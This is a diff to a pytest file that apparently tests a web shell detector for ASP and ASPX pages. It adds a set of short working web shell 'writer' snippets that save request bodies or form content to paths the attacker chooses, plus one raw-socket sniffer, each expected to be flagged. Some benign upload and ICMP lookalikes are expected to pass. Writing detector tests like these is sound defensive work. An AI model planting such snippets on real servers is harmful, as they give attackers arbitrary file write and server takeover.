@@ -280,3 +280,53 @@ def test_benign_page_setting_a_settings_property_by_reflection():
 def test_benign_asp_wmi_disk_report():
     assert_benign('<%\nSet w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nFor Each d In w.ExecQuery("SELECT * FROM Win32_LogicalDisk")\n'
                   'Response.Write Server.HTMLEncode(d.DeviceID & " " & d.FreeSpace & " " & Request("unit")) & "<br>"\nNext\n%>')
+
+
+# --- writers and tools ---------------------------------------------------------------------------------------
+
+WRITERS = {
+    "stream-body-to-query-path": ("x.asp", '<%\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\ns.Write Request.BinaryRead(Request.TotalBytes)\n'
+                                           's.SaveToFile Server.MapPath(Request.QueryString("f")), 2\n%>'),
+    "fso-append": ("x.asp", '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\nSet f = fso.OpenTextFile(Request.Form("path"), 8, True)\n'
+                            'f.WriteLine Request.Form("content")\nf.Close\n%>'),
+    "fso-asp-name": ("x.asp", '<%\nSet fso = CreateObject("Scripting.FileSystemObject")\nSet f = fso.CreateTextFile(Server.MapPath("x1.asp"), True)\n'
+                              'f.Write Request.Form("c")\nf.Close\n%>'),
+    "stream-writetext": ("x.asp", '<%\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 2\ns.Charset = "gb2312"\ns.Open\ns.WriteText Request("body")\n'
+                                  's.SaveToFile Request("path"), 2\ns.Close\n%>'),
+    "aspx-writealltext": ("x.aspx", '<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["p"], Request["c"]); %>'),
+    "aspx-saveas-named": ("x.aspx", '<%@ Page Language="C#" %><% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath("~/") +'
+                                    ' Request.Form["name"]); %>'),
+    "aspx-streamwriter": ("x.aspx", '<%@ Page Language="C#" %><% using (var w = new System.IO.StreamWriter(Server.MapPath(Request.QueryString["f"]))) {'
+                                    ' w.Write(Request.Form["t"]); } %>'),
+    "aspx-body-to-file": ("x.aspx", '<%@ Page Language="C#" %><% using (var fs = System.IO.File.Create(Request["p"])) { Request.InputStream.CopyTo(fs); } %>'),
+    "aspx-vb-writealltext": ("x.aspx", '<%@ Page Language="VB" %><% System.IO.File.WriteAllText(Server.MapPath(Request("f")), Request("t")) %>'),
+    "aspx-upload-control-anywhere": ("x.aspx", '<%@ Page Language="C#" %><script runat="server">void Up(object s, EventArgs e) { F.PostedFile.SaveAs('
+                                               'P.Text + "\\\\" + F.FileName); }</script><form runat="server"><input type="file" id="F" runat="server"/>'
+                                               '<asp:TextBox ID="P" runat="server"/><asp:Button OnClick="Up" runat="server"/></form>'),
+    "aspx-sniffer": ("x.aspx", '<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><script runat="server">Socket s;'
+                               ' void Start_Click(object o, EventArgs e) { s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);'
+                               ' s.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(ddlist.SelectedValue), 0));'
+                               ' s.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);'
+                               ' s.IOControl(IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null); }</script>'),
+}
+
+
+@pytest.mark.parametrize("case", sorted(WRITERS))
+def test_writers_and_tools(case):
+    name, text = WRITERS[case]
+    assert_shell(text, name)
+
+
+def test_benign_upload_class_parsing_the_multipart_body():
+    # every classic ASP upload class: the body read whole, the parts cut out with InStrB/MidB, each saved
+    # under the folder the form names
+    assert_benign('<%\nFunction SaveUpload(folder)\nDim body, sep, p, name, s\nbody = Request.BinaryRead(Request.TotalBytes)\n'
+                  'sep = MidB(body, 1, InStrB(body, ChrB(13)) - 1)\np = InStrB(body, sep)\n'
+                  'name = "up_" & Timer() & ".jpg"\nSet s = Server.CreateObject("ADODB.Stream")\ns.Type = 1\ns.Open\n'
+                  's.Write MidB(body, p + LenB(sep), 100)\ns.SaveToFile Server.MapPath(folder & "/" & name), 2\nEnd Function\n'
+                  'SaveUpload Request.QueryString("folder")\n%>')
+
+
+def test_benign_page_pinging_with_a_raw_icmp_socket():
+    assert_benign('<%@ Page Language="C#" %><% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork,'
+                  ' System.Net.Sockets.SocketType.Raw, System.Net.Sockets.ProtocolType.Icmp); s.Close(); %>', "x.aspx")
